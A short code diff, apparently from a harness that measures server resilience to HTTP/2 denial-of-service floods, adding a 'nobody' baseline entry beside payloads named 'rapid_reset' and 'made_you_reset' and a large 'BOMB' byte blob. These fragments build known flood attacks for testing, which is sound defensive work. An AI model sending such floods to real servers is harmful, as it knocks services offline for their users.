@@ -59,6 +59,8 @@ BOMB += literal(b"x", b"a" * 4000, 0x40)
 BOMB += b"\xbe" * (16000 - len(BOMB))
 
 FLOODS = {
+    # Nobody: the flooding process alone, which takes a CPU. What is no more than this is not the flood's doing.
+    "nobody": Flood(b"", b"", True, 0),
     "rapid_reset": Flood(HELLO + b"".join(get(n, SLOW) + frame(3, 0, n, number(8)) for n in STREAMS),
                          frame(6, 0, 0, bytes(8))),
     "made_you_reset": Flood(
